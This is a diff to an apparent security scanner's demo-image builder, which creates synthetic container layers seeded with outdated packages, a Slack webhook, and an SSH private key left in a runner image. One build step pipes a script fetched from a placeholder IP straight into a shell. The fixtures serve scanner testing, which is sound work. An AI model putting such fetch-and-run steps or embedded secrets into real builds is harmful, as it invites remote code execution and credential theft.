@@ -12,6 +12,19 @@ from scanning.demo.build import Blob, Built, Step, text
 from scanning.demo.languages import npm_packages, python_packages
 
 SITE_PACKAGES = "usr/local/lib/python3.11/site-packages"
+RUNNER_PACKAGES = """
+libnghttp2-14 1.52.0-1 nghttp2
+libexpat1 2.5.0-1 expat
+git 1:2.39.2-1.1
+make 4.3-4.1 make-dfsg
+jq 1.6-2.1
+rsync 3.2.7-1
+unzip 6.0-28
+xz-utils 5.4.1-0.2
+patch 2.7.6-7
+wget 1.21.3-1+b1 wget=1.21.3-1
+socat 1.7.4.4-2
+"""
 
 
 @dataclass(frozen=True)
@@ -56,7 +69,7 @@ def _built(steps: tuple[Step, ...], format_: build.Format = "oci") -> Built:
 @cache
 def _web() -> tuple[Step, ...]:
     """A shop front in Node: old packages, and a Slack webhook in its settings."""
-    packages = {"axios": "0.21.0", "express": "4.16.0", "lodash": "4.17.15", "minimist": "1.2.0", "ws": "7.4.5"}
+    packages = {"axios": "0.21.0", "express": "4.16.0", "lodash": "4.17.15", "minimist": "1.2.0", "qs": "6.5.2"}
     settings = (
         "NODE_ENV=production\nPORT=8080\n"
         f"ALERTS_WEBHOOK={planted.slack_webhook('storefront')}\n"
@@ -165,20 +178,10 @@ def _reports() -> tuple[Step, ...]:
 
 def _runner() -> tuple[Step, ...]:
     """A build runner: many layers, and a deploy key and a token left in them."""
-    tools = ("git", "make", "jq", "rsync", "unzip", "zip", "xz", "patch", "wget", "socat")
     return (
         *systems.debian(),
         Step("ARG DEBIAN_FRONTEND=noninteractive"),
-        *(
-            Step(
-                f"RUN |1 DEBIAN_FRONTEND=noninteractive /bin/sh -c apt-get install -y {tool} # buildkit",
-                (
-                    systems.program(f"usr/bin/{tool}", 40_000),
-                    text(f"usr/share/doc/{tool}/README", f"{tool} of the sample images\n"),
-                ),
-            )
-            for tool in tools
-        ),
+        *_installed_one_by_one(RUNNER_PACKAGES),
         Step(
             "COPY id_ed25519 /home/runner/.ssh/id_ed25519 # buildkit",
             (text("home/runner/.ssh/id_ed25519", planted.private_key("runner"), 0o600),),
@@ -196,6 +199,17 @@ def _runner() -> tuple[Step, ...]:
         Step("USER runner"),
         Step('ENTRYPOINT ["/usr/local/bin/run"]'),
     )
+
+
+def _installed_one_by_one(table: str) -> Iterator[Step]:
+    before = systems.DEBIAN_PACKAGES
+    for line in table.strip().split("\n"):
+        name = line.split()[0]
+        yield Step(
+            f"RUN |1 DEBIAN_FRONTEND=noninteractive /bin/sh -c apt-get install -y {name} # buildkit",
+            (*systems.debian_packages(line, before=before), systems.program(f"usr/bin/{name}", 40_000)),
+        )
+        before += f"\n{line}"
 
 
 def _mail_gateway() -> tuple[Step, ...]:
@@ -239,7 +253,7 @@ def _notebook() -> tuple[Step, ...]:
         _debian_python(),
         Step(
             "RUN /bin/sh -c pip install --no-cache-dir notebook # buildkit",
-            python_packages({"notebook": "6.4.0", "tornado": "6.1", "numpy": "1.21.0"}, site=SITE_PACKAGES),
+            python_packages({"notebook": "6.4.0", "tornado": "6.1", "Jinja2": "2.11.2"}, site=SITE_PACKAGES),
         ),
         Step(
             "RUN /bin/sh -c curl -fsSL http://198.51.100.23/setup.sh | sh # buildkit",
